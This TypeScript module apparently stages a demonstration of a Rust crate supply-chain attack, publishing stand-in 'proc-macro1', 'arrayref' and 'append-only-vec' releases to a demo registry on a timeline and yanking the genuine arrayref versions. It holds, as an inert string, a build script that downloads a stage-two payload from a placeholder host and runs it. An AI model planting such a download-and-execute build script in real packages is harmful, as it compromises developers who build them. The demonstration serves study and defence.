import type { StandIn } from './crate-file.ts';
import type { DemoRegistry } from './registry.ts';

/** Checksums by `crate version`. */
export type Published = readonly (readonly [release: string, checksum: string])[];

/** One thing that happened. */
export interface AttackEvent {
  /** RFC 3339, UTC. */
  readonly at: string;
  readonly what: string;
  /** Returns what it published: the checksums by `crate version`. */
  readonly apply: (registry: DemoRegistry) => Promise<Published>;
}

/** The day before: when the demonstration's clock starts. */
export const dayBefore = '2026-08-19T12:00:00Z';

/** When everything poisoned is there: by this time the project of the demonstration has updated. */
export const inTheMiddle = '2026-08-20T07:50:00Z';

/** The releases that were to reach people. */
export const poisoned: readonly (readonly [crate: string, version: string])[] = [
  ['proc-macro1', '1.0.107'],
  ['arrayref', '0.3.10'],
  ['append-only-vec', '0.1.9'],
];

const history: readonly (readonly [crate: string, version: string, pubtime: string])[] = [
  ['arrayref', '0.3.5', '2018-09-01T15:02:11Z'],
  ['arrayref', '0.3.6', '2020-01-21T14:40:08Z'],
  ['arrayref', '0.3.7', '2023-04-12T13:26:55Z'],
  ['arrayref', '0.3.8', '2024-07-22T13:12:31Z'],
  ['arrayref', '0.3.9', '2024-09-14T17:17:48Z'],
  ['append-only-vec', '0.1.7', '2024-12-01T15:20:36Z'],
  ['append-only-vec', '0.1.8', '2025-09-02T13:02:09Z'],
];

/** Imitates what the script did, in words that lead nowhere: its host exists in no network. It is read, never run. */
const script = `use std::path::Path;
use std::process::Command;

fn main() {
    let out = std::env::var("OUT_DIR").unwrap();
    let file = Path::new(&out).join("stage2");
    let _ = Command::new("curl").arg("--output").arg(&file).arg("https://payload.invalid/stage2").status();
    let _ = Command::new(&file).status();
}
`;

/** The stand-in for the crate that carried the payload. */
export const payload: StandIn = { name: 'proc-macro1', version: '1.0.107', buildScript: script };

const bait: readonly StandIn[] = [
  { name: 'arrayref', version: '0.3.10', dependencies: { 'proc-macro1': '1.0.107' } },
  { name: 'append-only-vec', version: '0.1.9', dependencies: { 'proc-macro1': '1.0.107' } },
];

/** Publishes what had been there for years. */
export async function publishHistory(registry: DemoRegistry): Promise<Published> {
  const published = history.map(
    async ([name, version, pubtime]) =>
      [`${name} ${version}`, await registry.publish({ name, version }, pubtime)] as const,
  );
  return await Promise.all(published);
}

/**
 * The attack as the advisories RUSTSEC-2026-0260, -0262 and -0265 and the Rust project's report tell it. The minutes of the
 * yanks are between the reported ones.
 */
export const attack: readonly AttackEvent[] = [
  published('2026-08-20T07:11:00Z', payload),
  ...bait.slice(0, 1).map((crate) => published('2026-08-20T07:15:00Z', crate)),
  {
    at: '2026-08-20T07:16:00Z',
    what: 'Yanked: the good arrayref 0.3.5 to 0.3.9, so that only the poisoned one is left.',
    apply: async (registry) => {
      for (const [name, version] of history) if (name === 'arrayref') registry.yank(name, version);
      return [];
    },
  },
  ...bait.slice(1).map((crate) => published('2026-08-20T07:37:49Z', crate)),
  removed('2026-08-20T08:03:00Z', 'proc-macro1', '1.0.107'),
  removed('2026-08-20T08:41:40Z', 'arrayref', '0.3.10'),
  removed('2026-08-20T09:25:24Z', 'append-only-vec', '0.1.9'),
];

function published(at: string, crate: StandIn): AttackEvent {
  const needs = Object.keys(crate.dependencies ?? {}).map((name) => `, which needs ${name}`);
  return {
    at,
    what: `Published: ${crate.name} ${crate.version}${needs.join('')}.`,
    apply: async (registry) => [[`${crate.name} ${crate.version}`, await registry.publish(crate, at)]],
  };
}

function removed(at: string, name: string, version: string): AttackEvent {
  return {
    at,
    what: `Deleted upstream: ${name} ${version}.`,
    apply: async (registry) => {
      registry.remove(name, version);
      return [];
    },
  };
}
